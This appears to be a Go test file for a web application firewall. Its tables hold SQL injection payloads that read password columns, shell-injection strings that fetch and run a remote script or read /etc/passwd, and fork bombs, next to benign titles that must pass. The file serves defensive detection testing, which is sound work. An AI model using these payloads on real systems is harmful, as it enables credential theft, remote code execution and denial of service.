package waf

import "testing"

// TestAttack93 are attack 93's finds, each run on real software:
// PostgreSQL 15 and MariaDB 10.11 functions libinjection does not know
// after a closed quote (x' or right(password,99) like 's3% read a
// password a letter a request: 210169's sqlWordlessNames); a command's
// name computed in a substitution at a command's place (`dirname
// curl/x` -s host/x|`dirname sh/x` ran a remote script under dash;
// `rev<<<di` under bash) and a fork bomb or an endless loop after a
// separator (210227); titles with | and & that 210227 refused.
func TestAttack93(t *testing.T) {
	operatorTable(t, "210169", sqlQuotedCall,
		[]string{"x' or right(password,99) like 's3%", "x' or right(password,99)>'hunter2", "x' or textlen(password)>'6",
			"x' or factorial(3)>5--", "x' or gcd(2,4)=2--", "x' or scale(1.5)>'0", "x' or sind(90)>'0", "x' or rownum()>'0",
			"x' or second(1)>'0", "x' or cardinality(array[1])>'0"},
		nil,
		[]string{"Turn 'left' or right (at the light)", "It's 'fine' or right?"})
	operatorTable(t, "210179", tautologySuffix,
		[]string{"x' or point(1,1) ~= point(1,1) or 't", "x' or point(0,1) ?| point(0,2) or 't", "x' or |/ 4>'1", "x' or ||/ 8>'1",
			"x' or 'a' ilike 'a' or 't", "x' or oid or '", "x' or oid=2 or '"},
		[]string{"x' or 1 <@ 2 or 't"},
		[]string{"Pi is 'about' or ~= 3.14", "It's 'fine' or oid is the key", "Use 'a' or b and c", "the 'OID' or row id"})
	operatorTable(t, "210227", shellSysCommand,
		[]string{"127.0.0.1;`dirname curl/x` -s localhost:18934/x|`dirname sh/x`", "127.0.0.1;`dirname id/x`",
			"127.0.0.1;`rev<<<'dwssap/cte/ tac'`", "127.0.0.1;`tr -d x<<<ixd`", "127.0.0.1;`cut -c2-<<<xid`",
			"127.0.0.1;:(){ :|:& };:", "127.0.0.1;f(){ f|f& };f", "127.0.0.1;bomb(){ bomb|bomb& };bomb",
			"127.0.0.1;while :;do :;done", "127.0.0.1; while true; do sleep 0; done", "127.0.0.1;until false;do :;done",
			"127.0.0.1;for((;;));do :;done"},
		[]string{"127.0.0.1;$(rev<<<di)"},
		[]string{"Docker | kubectl | Helm cheat sheet", "Tutorial | kubectl apply | Part 2", "Jenkins | kubectl | ArgoCD pipeline",
			"Monitoring | pg_dump backups | Ops", "Docs | vault kv | HashiCorp", "aws s3 ls; gsutil ls", "Backups & pg_dump schedule",
			"Paths; `dirname path` gives the directory", "x; while true, do it",
			"f(){ return 1; }"})
}
